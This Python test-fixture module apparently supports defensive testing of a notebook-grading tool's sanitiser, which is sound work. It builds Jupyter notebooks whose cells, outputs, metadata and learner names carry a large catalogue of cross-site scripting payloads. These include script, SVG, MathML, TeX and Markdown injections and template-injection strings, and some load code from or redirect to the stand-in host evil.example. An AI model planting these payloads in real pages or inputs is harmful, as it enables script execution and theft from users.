"""Texts that try to run a script, load something, or lead away, from wherever a learner can write.

A script that runs calls ``ran()``; what is loaded, or opened, lies on the host evil.example.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import nbformat
from nbformat.notebooknode import NotebookNode, from_dict

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
IMG = "<img src=x onerror=ran()>"


@dataclass(frozen=True)
class Hostile:
    """A text, and where it stands.

    Attributes
    ----------
    name : str
    text : str
        Markdown of a cell; empty if it is an output.
    output : mapping
        What a cell put out.
    attachments, metadata, notebook : mapping
        What stands beside a cell's text, about the cell, and about the notebook.
    alive : bool
        Whether it does harm in today's Chromium when it is put into a page as it is. The others
        did, or do where a formula is drawn or a widget is shown by a script.
    """

    name: str
    text: str = ""
    output: Mapping[str, Any] = field(default_factory=dict)
    attachments: Mapping[str, Any] = field(default_factory=dict)
    metadata: Mapping[str, Any] = field(default_factory=dict)
    notebook: Mapping[str, Any] = field(default_factory=dict)
    alive: bool = False

    def cells(self) -> list[NotebookNode]:
        """Return the cells that hold it."""
        about = from_dict(dict(self.metadata))
        if self.output:
            cell = nbformat.v4.new_code_cell("1", metadata=about)
            cell.outputs = [from_dict(dict(self.output))]
            return [cell]
        cell = nbformat.v4.new_markdown_cell(self.text, metadata=about)
        if self.attachments:
            cell.attachments = from_dict(dict(self.attachments))
        return [cell]

    def whole_notebook(self) -> NotebookNode:
        """Return a notebook with it, and nothing else."""
        return nbformat.v4.new_notebook(cells=self.cells(), metadata=from_dict(dict(self.notebook)))


def answer(number: int, cell: NotebookNode) -> NotebookNode:
    """Make a cell a learner's answer that is graded."""
    cell.metadata["nbgrader"] = {
        "grade_id": f"answer-{number}",
        "grade": True,
        "solution": True,
        "locked": False,
        "points": 2,
        "schema_version": 3,
        "task": False,
    }
    return cell


def shown(kind: str, content: object, **about: object) -> dict[str, Any]:
    """Return an output of one form."""
    return {"output_type": "display_data", "data": {kind: content}, "metadata": about}


# Put into a Markdown cell, and once more into an output of HTML.
HTML = {
    "link-data": '<a class=press href="data:text/html,<script>ran()</script>">x</a>',
    "script": "<script>ran()</script>",
    "script-case": "<ScRiPt >ran()</sCrIpT >",
    "script-other-host": '<script src="http://evil.example/a.js"></script>',
    "script-module": '<script type=module>import "http://evil.example/a.mjs"</script>',
    "img-onerror": IMG,
    "img-slashes": '<img/src="x"/onerror=ran()>',
    "img-line-breaks": "<img\nsrc=x\nonerror\n=\nran()>",
    "img-entities": '<img src=x onerror="&#114;&#x61;n()">',
    "svg-onload": "<svg onload=ran()></svg>",
    "svg-script": "<svg><script>ran()</script></svg>",
    "svg-script-entities": "<svg><script>&#114;an()</script></svg>",
    "svg-animate-begin": "<svg><animate onbegin=ran() attributeName=x dur=1s /></svg>",
    "svg-animate-link": (
        "<svg><a><animate attributeName=href values=javascript:ran() />"
        "<text x=20 y=20>link</text></a></svg>"
    ),
    "svg-foreign": "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
    "svg-image": '<svg><image href="http://evil.example/a.png" width=9 height=9 /></svg>',
    "math-annotation": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()>'
        "</annotation-xml></math>"
    ),
    "style-mutation": '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    "textarea-mutation": '<textarea><p title="</textarea><img src=x onerror=ran()>">',
    "shadow-root": "<div><template shadowrootmode=open><img src=x onerror=ran()></template></div>",
    "iframe-script": '<iframe src="javascript:parent.ran()"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>ran()</script>"></iframe>',
    "iframe-other-host": '<iframe src="http://evil.example/"></iframe>',
    "object-data": '<object data="data:text/html,<script>ran()</script>"></object>',
    "embed": '<embed src="data:text/html,<script>ran()</script>">',
    "meta-refresh": '<meta http-equiv=refresh content="0;url=http://evil.example/away">',
    "base": '<base href="http://evil.example/"><img src=pixel.png>',
    "link-style": '<link rel=stylesheet href="http://evil.example/a.css">',
    "link-preload": '<link rel=preload as=script href="http://evil.example/a.js">',
    "style-import": '<style>@import "http://evil.example/a.css";</style>',
    "style-attribute": '<div style="background:url(http://evil.example/a.png)">x</div>',
    "style-animation": "<style>@keyframes k{}</style><b style=animation-name:k "
    "onanimationstart=ran()>x</b>",
    "form-action": '<form action="javascript:ran()"><button class=press>go</button></form>',
    "form-button": '<form><button class=press formaction="javascript:ran()">go</button></form>',
    "form-other-host": '<form action="http://evil.example/"><button class=press>go</button></form>',
    "autofocus": "<input onfocus=ran() autofocus>",
    "editable": "<b contenteditable autofocus onfocus=ran()>x</b>",
    "details": "<details open ontoggle=ran()><summary>x</summary></details>",
    "video-source": "<video><source onerror=ran()></video>",
    "video-poster": '<video poster="http://evil.example/a.png"></video>',
    "audio": "<audio src=x onerror=ran()></audio>",
    "body": "<body onload=ran()>",
    "body-page-show": "<body onpageshow=ran()>",
    "link-script": '<a class=press href="javascript:ran()">x</a>',
    "link-tab": '<a class=press href="jav&#x09;ascript:ran()">x</a>',
    "link-line-break": '<a class=press href="jav&#10;ascript&colon;ran()">x</a>',
    "link-control": '<a class=press href="&#1;javascript:ran()">x</a>',
    "link-case": '<a class=press href="&#74;avaSCRIPT:ran()">x</a>',
    "link-area": '<map><area class=press href="javascript:ran()" shape=default></map>',
    "picture-other-host": '<img src="http://evil.example/pixel.png">',
    "picture-set": '<img srcset="http://evil.example/pixel.png 1x">',
    "picture-source": '<picture><source srcset="http://evil.example/a.png"><img></picture>',
    "table-background": '<table background="http://evil.example/a.png"><tr><td>x</table>',
    "input-picture": '<input type=image src="http://evil.example/a.png">',
    "any-element-mouse": "<b onmouseover=ran()>x</b>",
    "any-element-click": "<unknown class=press onclick=ran()>x</unknown>",
    "comment": "<!--><img src=x onerror=ran()>-->",
    "instruction": "<?x?><img src=x onerror=ran()>",
    "open-attribute": '<a title="<b>"><img src=x onerror=ran()></a title="',
    "null-character": "<img src=x one\0rror=ran() onerror=ran()>",
    "closing-everything": f"</div></div></section></main></pre></body></html>{IMG}",
}

# Not harmful in the Chromium of today.
HTML_ONCE = {
    "math-mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=ran()&gt;">'
    ),
    "script-in-script": "<scr<script>ipt>ran()</scr</script>ipt>",
    "script-null": "<scr\0ipt>ran()</scr\0ipt>",
    "vbscript": '<a class=press href="vbscript:ran()">x</a>',
    "css-expression": '<div style="width:expression(ran())">x</div>',
    "css-binding": '<div style="-moz-binding:url(http://evil.example/a.xml#b)">x</div>',
    "img-script": '<img src="javascript:ran()">',
    "math-link": '<math><mi class=press xlink:href="javascript:ran()">x</mi></math>',
    "html-import": '<link rel=import href="http://evil.example/a.html">',
}

MARKDOWN = {
    "md-link": "[x](javascript:ran())",
    "md-link-case": "[x](JaVaScRiPt:ran())",
    "md-link-brackets": "[x](<javascript:ran()>)",
    "md-link-entity": "[x](java&#115;cript:ran())",
    "md-reference": "[x][y]\n\n[y]: javascript:ran()",
    "md-autolink": "<javascript:ran()>",
    "md-picture-other-host": "![x](http://evil.example/a.png)",
    "md-mermaid": f"```mermaid\n</pre>{IMG}\n```",
    "md-heading": f"# {IMG}",
    "md-table": f"|a|\n|-|\n|{IMG}|",
    "md-list": f"- a\n  - {IMG}",
    "md-quote": f"> {IMG}",
    "md-def-list": f"a\n: {IMG}",
}

MARKDOWN_ONCE = {
    "md-picture-script": "![x](javascript:ran())",
    "md-picture-title": '![x](http://evil.invalid/a.png "\\" onerror=ran() \\"")'.replace(
        "http://evil.invalid", "data:,"
    ),
    "md-picture-alt": '![x" onerror="ran()](x)',
    "md-picture-svg": "![x](data:image/svg+xml,<svg/onload=ran()>)",
    "md-link-title": "[x](http://other.example '\" onmouseover=\"ran()')",
    "md-fence": f"```\n</code></pre>{IMG}\n```",
    "md-fence-language": f"```html\n</code></pre>{IMG}\n```",
    "md-fence-info": f'```"><img src=x onerror=ran()>\n{IMG}\n```',
    "md-code": f"`</code>{IMG}`",
    "tex-text": rf"$\text{{{IMG}}}$",
    "tex-mbox": rf"$\mbox{{{IMG}}}$",
    "tex-href": r"$\href{javascript:ran()}{x}$",
    "tex-closing": f"$$</math>{IMG}$$",
    "tex-unicode": r"$\unicode{x3c}\unicode{x69}\text{mg src=x onerror=ran()>}$",
    "tex-entities": r"$\text{&lt;img src=x onerror=ran()&gt;}$",
    "tex-require": r"$\require{html}\href{javascript:ran()}{\style{position:fixed}{x}}$",
    "tex-class": r"$\class{press\" onclick=\"ran()}{x} \cssId{summary}{y}$",
    "tex-environment": f"\\begin{{align}}</math>{IMG}\\end{{align}}",
    "tex-in-attribute": '<img alt="$x$" src="data:," title=\'$"onerror="ran()$\'>',
    "tex-in-picture": '![$" onerror="ran()$](x "$\\"$")',
    "tex-array": r"\begin{array}{l\" onclick=ran()}x\end{array}",
    "tex-colour": r"$\color{red\" onclick=\"ran()}{x}$",
    "tex-width": r"$\hspace{1em\" onclick=\"ran()} x$",
}

_WIDGET = "application/vnd.jupyter.widget-view+json"
_STATE = "application/vnd.jupyter.widget-state+json"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"><script>ran()</script></svg>'

OUTPUTS = {
    "out-jpeg-file": shown("image/jpeg", PIXEL, filenames={"image/jpeg": "http://evil.example/a"}),
    "out-html-isolated": shown("text/html", IMG, **{"text/html": {"isolated": True}}),
    "out-javascript": shown("application/javascript", "ran()"),
    "out-markdown": shown("text/markdown", f"x {IMG} [x](javascript:ran())"),
}
OUTPUTS_ONCE = {
    "out-mermaid": shown("text/vnd.mermaid", f"</pre>{IMG}"),
    "out-png-attribute": shown("image/png", 'x" onerror="ran()'),
    "out-html-lines": shown("text/html", ["<img src=x on", "error=ran()>"]),
    "out-svg": shown("image/svg+xml", _SVG),
    "out-png-width": shown("image/png", PIXEL, **{"image/png": {"width": "1 onerror=ran()"}}),
    "out-png-alt": shown("image/png", PIXEL, **{"image/png": {"alt": '" onload="ran()'}}),
    "out-latex": shown("text/latex", f"$x$</p>{IMG}"),
    "out-latex-link": shown("text/latex", r"$\href{javascript:ran()}{x}$"),
    "out-text": shown("text/plain", f"</pre>{IMG}"),
    "out-pdf": shown("application/pdf", "JVBERi0="),
    "out-widget": shown(_WIDGET, {"model_id": f"</script>{IMG}"}),
    "out-json": shown("application/json", {"x": f"</script>{IMG}"}),
    "out-odd-type": shown("text/html;charset=utf-7", "+ADw-img src=x onerror=ran()+AD4-"),
    "out-stream": {"output_type": "stream", "name": "stdout", "text": f"</pre>{IMG}"},
    "out-terminal-link": {
        "output_type": "stream",
        "name": "stdout",
        "text": "\x1b]8;;javascript:ran()\x07x\x1b]8;;\x07",
    },
    "out-terminal-title": {
        "output_type": "stream",
        "name": "stdout",
        "text": f'\x1b]0;</pre>{IMG}\x07 \x1b[38;2;1;2;3"onclick=ran()mx\x1b[0m',
    },
    "out-error": {
        "output_type": "error",
        "ename": IMG,
        "evalue": IMG,
        "traceback": [f"\x1b[31m</pre>{IMG}\x1b[0m", IMG],
    },
}

OTHERS = (
    Hostile("attachment-svg", "![x](attachment:a)", attachments={"a": {"image/svg+xml": _SVG}}),
    Hostile(
        "attachment-html",
        "![x](attachment:a)",
        attachments={"a": {"text/html": "PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=="}},
    ),
    Hostile(
        "attachment-data",
        "![x](attachment:a)",
        attachments={"a": {"image/png": '" onerror="ran()'}},
    ),
    Hostile("attachment-missing", "![x](attachment:nothing)"),
    Hostile("attachment-odd", "![x](attachment:a)", attachments={"a": {"image/png": ["x"]}}),
    Hostile("tags", "x", metadata={"tags": ['"><img src=x onerror=ran()>', "press"]}),
    Hostile("title", "x", notebook={"title": "</title><script>ran()</script>"}),
    Hostile(
        "widget-state",
        "x",
        notebook={"widgets": {_STATE: {"state": {"a": f"</script><script>ran()</script>{IMG}"}}}},
    ),
    Hostile(
        "language",
        output=shown("text/plain", "1"),
        metadata={"magics_language": f'html"><{IMG}', "alt": '" onerror="ran()'},
        notebook={"language_info": {"name": f"{IMG}", "pygments_lexer": f"{IMG}"}},
    ),
)

# The reader of Markdown takes them for text.
NO_TAGS = {"img-line-breaks", "img-slashes", "null-character"}

CONTENT: tuple[Hostile, ...] = (
    *(Hostile(name, text, alive=name not in NO_TAGS) for name, text in HTML.items()),
    *(Hostile(name, text) for name, text in HTML_ONCE.items()),
    *(
        Hostile(f"out-{name}", output=shown("text/html", text), alive=name in HTML)
        for name, text in (HTML | HTML_ONCE).items()
    ),
    *(Hostile(name, text, alive=True) for name, text in MARKDOWN.items()),
    *(Hostile(name, text) for name, text in MARKDOWN_ONCE.items()),
    *(Hostile(name, output=output, alive=True) for name, output in OUTPUTS.items()),
    *(Hostile(name, output=output) for name, output in OUTPUTS_ONCE.items()),
    *OTHERS,
)

# What learners, and folders, may be called; also what stands in comments and reasons.
NAMES = {
    "name-title": "</title><script>ran()</script>",
    "name-attribute": '"><img src=x onerror=ran()>',
    "name-single-quote": "'><svg onload=ran()>",
    "name-string": '";ran();//',
    "name-backslash": '\\";ran();//',
    "name-script-end": "</script><script>ran()</script>",
    "name-comment": "--><script>ran()</script><!--",
    "name-template": "{{ ''.__class__ }}{% for x in [1] %}",
    "name-interpolation": "${ran()}<%= ran() %>",
    "name-address": "javascript:ran()",
    "name-markdown": "[x](javascript:ran()) <img src=x onerror=ran()>",
    "name-direction": "\u202e<img src=x onerror=ran()>\u202c\x1b[31m",
}
